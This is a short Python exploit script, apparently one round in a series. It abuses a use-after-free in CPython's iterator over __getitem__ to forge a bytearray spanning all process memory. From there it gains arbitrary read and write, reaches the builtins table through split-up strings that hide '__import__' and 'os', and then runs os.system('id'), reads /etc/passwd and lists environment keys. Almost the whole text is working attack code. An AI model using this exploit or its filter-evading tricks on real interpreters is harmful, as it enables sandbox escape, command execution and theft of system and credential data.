# family: wall (memory: the iterator over __getitem__ re-entered from that __getitem__)   goal: id   interpreter: /usr/bin/python3
# (round 78, ok04) iter() of an object with __getitem__ alone; a next() of the same iterator from
#   that __getitem__ meets IndexError, as the outer call does, and both drop the object's
#   reference (iter_iternext holds it borrowed in a local): freed while a list holds it,
#   reclaimed as a forged bytearray over all memory.
keep = []
W = lambda v: v.to_bytes(8, "little")


class Cap(bytearray):
    pass


FAKE = (W(0) + W(0) + W(1 << 40) + W(id(Cap)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
state = {"depth": 0}


class S:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def __getitem__(self, i):
        state["depth"] += 1
        if state["depth"] == 1:
            try:
                next(itr)
            except StopIteration:
                pass
        raise IndexError(i)


s = S()
itr = iter(s)
hold = [s]
try:
    next(itr)
except StopIteration:
    pass
s = None
for i in range(64):
    keep.append(bytearray(FAKE))
mem = hold[0]
print(type(mem).__name__, "fake size", hex(len(mem)))
def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")
def w8(v):
    return v.to_bytes(8, "little")
target = rd(id(w8) + 24)              # PyFunctionObject.func_builtins
mem[target:target + 8] = w8(rd(target) + 1)
cell = [None]
slot = rd(id(cell) + 24)              # list ob_item
mem[slot:slot + 8] = w8(target)
table = cell[0]
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["op" + "en"]("/etc/passwd").read()[:120])
print("environ keys:", sorted(osm.environ)[:8])
